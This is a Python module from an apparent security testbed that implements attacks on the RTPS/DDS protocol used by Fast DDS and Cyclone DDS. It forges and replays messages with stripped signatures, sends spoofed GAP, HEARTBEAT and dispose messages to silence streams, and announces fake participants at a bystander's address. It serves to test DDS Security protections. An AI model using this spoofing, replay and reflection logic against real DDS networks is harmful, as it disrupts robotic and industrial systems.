"""RTPS, as Fast DDS and Cyclone DDS speak it (DDSI-RTPS 2.5; DDS Security 1.1)."""

import os
import struct
import time
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import replace
from typing import TYPE_CHECKING

from comseclab.attack import forged
from comseclab.attack import rtps_wire as wire
from comseclab.attack.base import Rogue
from comseclab.attack.dialect import Dialect, Prepared, Setting
from comseclab.attack.frame import Frame, udp_frame
from comseclab.attack.rtps_known import MANY, Known, learn, message_in, participant
from comseclab.attack.rtps_wire import Message
from comseclab.errors import LabError
from comseclab.middleware.base import Material, Place
from comseclab.protection.rtps import ENDPOINTS, PARTICIPANTS, Submessage
from comseclab.trial.spec import Factors, ProtectionSpec

if TYPE_CHECKING:
    from comseclab.attack.scene import Scene

NONE = ProtectionSpec(name="none", base="none")
FORGED, REPLAYED, REPEATED = 5, 20, 3
"""Messages forged, messages replayed, and how often a control message is sent, as any may get lost."""
FRAGMENT_BYTES = 8192
"""A forged message above it travels in fragments, each in a frame of its own."""
GROUP = ("239.255.0.1", 7400)
"""Where participants of domain 0 announce themselves (DDSI-RTPS 2.5, 9.6.1.4)."""
GROUP_HARDWARE = "01:00:5e:7f:00:01"
ANNOUNCED_TO, TOLD_TO = bytes.fromhex("000100c7"), bytes.fromhex("000003c7")
"""The builtin readers of SPDP, and of SEDP for writers (DDSI-RTPS 2.5, table 9.2)."""
PORT = 7410
RESTART_NS = 600_000_000
MOST_AWAITED_S = 0.5


class Rtps(Dialect):
    stacks = ("fastdds", "cyclonedds")
    silences = {  # noqa: RUF012
        "gap": "an RTPS GAP: the next messages are irrelevant and will not come",
        "heartbeat": "an RTPS HEARTBEAT: the writer holds none of the next messages any more",
        "dispose": "an SPDP announcement that the writer's participant is gone",
        "dispose-writer": "an SEDP announcement that the writer is gone",
    }

    def refuse(self, attack: str, factors: Factors) -> str | None:
        if attack == "reflection":
            return None
        return super().refuse(attack, factors)

    def prepare(self, setting: Setting) -> Prepared:
        """Victims as in any trial; of the rogues, each what its credentials say."""
        spec, middleware = setting.spec, setting.middleware
        insiders = {
            rogue: self._granted(rogue, place) for rogue, place in setting.rogues.items() if rogue.credentials != "none"
        }
        material = middleware.prepare(spec, (*setting.places, *insiders.values()), setting.folder)
        false = Material()
        if any(rogue.credentials in ("self-signed", "stranger") for rogue in insiders):
            false = middleware.prepare(spec, (*setting.places, *setting.rogues.values()), setting.folder / "false")
        settings = {}
        for rogue, place in setting.rogues.items():
            if rogue.credentials == "none":
                plain = spec.model_copy(update={"protection": NONE})
                settings[rogue] = middleware.node_settings(plain, place, Material())
                continue
            files = dict(material.files.get(place.node, {}))
            if rogue.credentials == "self-signed" and files:
                files["permissions"] = false.files[place.node]["permissions"]
            settings[rogue] = middleware.node_settings(spec, place, Material({place.node: files} if files else {}))
        return Prepared(material, settings)

    @staticmethod
    def _granted(rogue: Rogue, place: Place) -> Place:
        """What the documents grant, which may be less than what the node will try."""
        return place if rogue.credentials in ("permitted", "stranger") else replace(place, writes=(), reads=())

    def is_message(self, frame: Frame, scene: "Scene") -> bool:
        """By the writer's kind where headers are in clear; where they are encrypted, by size."""
        if (frame.source[0], frame.destination[0]) != (scene.writer.address, scene.reader.address):
            return False
        message = message_in(frame)
        if message is None:
            return False
        if any(data.of_user and data.carries for data in wire.data_of(message)):
            return True
        least = scene.spec.trial.streams[0].max_size // 2
        return any(part.kind == wire.SEC_BODY and len(part.body) >= least for part in message.parts)

    def forge(self, scene: "Scene") -> None:
        """Plain DATA of the writer's next numbers under any protection, as a receiver may fail to insist on it."""
        known = self._known(scene)
        if known is None:
            return
        spec = scene.spec
        if known.payload is not None:
            payload = forged.with_nonce(known.payload, spec.trial.nonce, spec.forged_nonce)
        else:
            payload = _encapsulated(scene)
        for number in range(known.last + 1, known.last + 1 + FORGED):
            parts = [wire.data(known.entity, number, payload)]
            if len(payload) > FRAGMENT_BYTES * 3 // 2:
                parts = wire.fragments(known.entity, number, payload, FRAGMENT_BYTES)
            for part in parts:
                self._send(scene, known, [part], known.reader.user)
        scene.note(f"{FORGED} messages forged, numbers {known.last + 1} to {known.last + FORGED}, {_learned(known)}")

    def replay(self, scene: "Scene", *, resequenced: bool) -> None:
        """The last messages again; renumbered where that is in clear, which a signature covers but does not hide.

        After a restart they are addressed to the new participant, where the address is in clear.
        """
        if scene.restarted_ns is not None:
            self._await_message(scene)
        known = self._known(scene)
        if known is None:
            return
        recorded = [frame for frame in scene.messages() if frame.at_ns < _until_ns(scene)][-REPLAYED:]
        number: dict[int, int] = {}
        altered = 0
        for frame in recorded:
            message = message_in(frame)
            assert message is not None, "or it were no message of the stream"
            if resequenced:
                for data in wire.data_of(message):
                    number.setdefault(data.number, known.last + 1 + len(number))
                parts = list(_renumbered(message, number))
                altered += parts != list(message.parts)
                message = replace(message, parts=tuple(parts))
            again = frame
            if scene.restarted_ns is not None:
                again = _redirected(frame, known.reader.user[1])
                message = replace(message, parts=tuple(_retargeted(message.parts, known.reader.prefix)))
            scene.inject_on_path(again.with_payload(message.raw()))
        scene.note(f"{len(recorded)} frames sent again, {altered} of them renumbered, {_learned(known)}")

    def silence(self, scene: "Scene", message: str) -> None:
        """Send the control message in the writer's name, a few times."""
        known = self._known(scene)
        if known is None:
            return
        if message not in self.silences:
            raise LabError(f"there is no control message {message}", f"one of {', '.join(self.silences)}")
        for _ in range(REPEATED):
            self._send(scene, known, *_control(message, known))
        scene.note(f"{message} sent {REPEATED} times, {_learned(known)}")

    def reflect(self, scene: "Scene") -> None:
        """Announce a participant that is not there, at the bystander's address."""
        genuine = participant(list(scene.path.seen), scene.writer.address)
        if genuine is None:
            return
        victim = scene.hosts["bystander"]
        fresh = genuine.prefix[:2] + os.urandom(10)
        content = genuine.announcement.replace(genuine.prefix, fresh)
        for old in (genuine.metatraffic, genuine.user):
            content = content.replace(wire.locator(*old), wire.locator(victim.address, old[1]))
        header = genuine.header[: -wire.PREFIX_BYTES] + fresh
        message = Message(header, (wire.data(PARTICIPANTS, 1, content),))
        group = "01:00:5e:7f:00:01"
        scene.inject(
            udp_frame((hardware(scene.attacker.address), group), (scene.attacker.address, PORT), GROUP, message.raw())
        )
        scene.note(f"announced a participant at {victim.address}")

    @staticmethod
    def _await_message(scene: "Scene") -> None:
        """Until the restarted subscriber has got a message: before it, Cyclone DDS takes none that is out of turn."""
        until = time.monotonic() + MOST_AWAITED_S
        while time.monotonic() < until and scene.messages()[-1].at_ns <= (scene.restarted_ns or 0):
            time.sleep(0.002)

    @staticmethod
    def _known(scene: "Scene") -> Known | None:
        known = learn(scene)
        if known is None:
            scene.note("the participants of the stream were not seen, nothing was sent")
        return known

    @staticmethod
    def _send(scene: "Scene", known: Known, parts: Iterable[Submessage], target: tuple[str, int]) -> None:
        """Send submessages in the writer's name to the reader's participant, from the attacker's port."""
        message = Message(known.writer.header, (wire.to(known.reader.prefix), *parts))
        ends = hardware(scene.attacker.address), hardware(target[0])
        raw = udp_frame(ends, (scene.writer.address, PORT), target, message.raw())
        scene.inject_on_path(Frame(scene.port_of(scene.attacker), raw))


def _until_ns(scene: "Scene") -> int:
    """Up to when a message counts as recorded: of a restarted subscriber, well before it was back."""
    return time.monotonic_ns() if scene.restarted_ns is None else scene.restarted_ns - RESTART_NS


def _renumbered(message: Message, numbers: Mapping[int, int]) -> Iterator[Submessage]:
    """The message with other numbers and without signatures, which would betray it; as it was where all is hidden."""
    if not any(data.of_user for data in wire.data_of(message)):
        yield from message.parts
        return
    fresh = {id(data.part): numbers[data.number] for data in wire.data_of(message) if data.of_user}
    for part in wire.unprotected(message.parts):
        if part.kind not in (wire.HEARTBEAT, wire.SEC_BODY):  # it would tell the true numbers
            yield wire.renumbered(part, fresh[id(part)]) if id(part) in fresh else part


def _retargeted(parts: Iterable[Submessage], prefix: bytes) -> Iterator[Submessage]:
    """Addressed to another participant, and to any reader there; what follows SRTPS_PREFIX is signed and stays."""
    signed = False
    for part in parts:
        signed = signed or part.kind in (wire.SRTPS_PREFIX, wire.SEC_PREFIX)
        if part.kind == wire.INFO_DST and not signed:
            yield replace(part, body=prefix)
        elif part.kind in (wire.DATA, wire.DATA_FRAG) and not signed:
            yield wire.for_any_reader(part)
        else:
            yield part
        signed = signed and part.kind not in (wire.SRTPS_POSTFIX, wire.SEC_POSTFIX)


def _redirected(frame: Frame, port: int) -> Frame:
    """The frame to another UDP port of its target."""
    header = 14 + 4 * (frame.raw[14] & 0x0F)
    raw = frame.raw[: header + 2] + struct.pack(">H", port) + frame.raw[header + 4 :]
    return replace(frame, raw=raw)


def _control(message: str, known: Known) -> tuple[list[Submessage], tuple[str, int]]:
    """One of `silences`, and where it goes."""
    beyond, entity = known.last + MANY, known.entity
    if message == "gap":
        return [wire.gap(entity, known.last + 1, beyond, known.reader_entity)], known.reader.user
    if message == "heartbeat":
        return [wire.heartbeat(entity, beyond, beyond - 1, known.beats + MANY)], known.reader.user
    if message == "dispose":
        gone = known.writer.prefix + wire.PARTICIPANT
        told = [wire.disposal(ANNOUNCED_TO, PARTICIPANTS, known.writer.number + 1, wire.PID_PARTICIPANT_GUID, gone)]
        return told, known.reader.metatraffic
    numbers, gone = range(known.told, known.told + 2), known.writer.prefix + entity
    told = [wire.disposal(TOLD_TO, ENDPOINTS[0], number, wire.PID_ENDPOINT_GUID, gone) for number in numbers]
    return told, known.reader.metatraffic


def _learned(known: Known) -> str:
    seen = "payload in clear" if known.payload is not None else "payload of the type that everybody knows"
    return f"writer {(known.writer.prefix + known.entity).hex()}, last number {known.last}, {seen}"


def _encapsulated(scene: "Scene") -> bytes:
    """A message of the stream's type as DDS carries it: padded, as the transport pads it; octets where it is no CDR."""
    trial = scene.spec.trial
    stream, codec = trial.streams[0], trial.factors.codec
    content = forged.from_spool(trial, stream, scene.spec.forged_nonce, codec)
    padding = -len(content) % 4
    if stream.type and codec == "cdr":
        return content[:3] + bytes([content[3] | padding]) + content[4:] + bytes(padding)
    return b"\x00\x01\x00\x00" + struct.pack("<I", len(content)) + content + bytes(padding)


def hardware(address: str) -> str:
    """The hardware address of a host, as the testbed gives them."""
    return f"02:00:0a:4d:00:{int(address.rpartition('.')[2]):02x}"


DIALECT = Rtps()
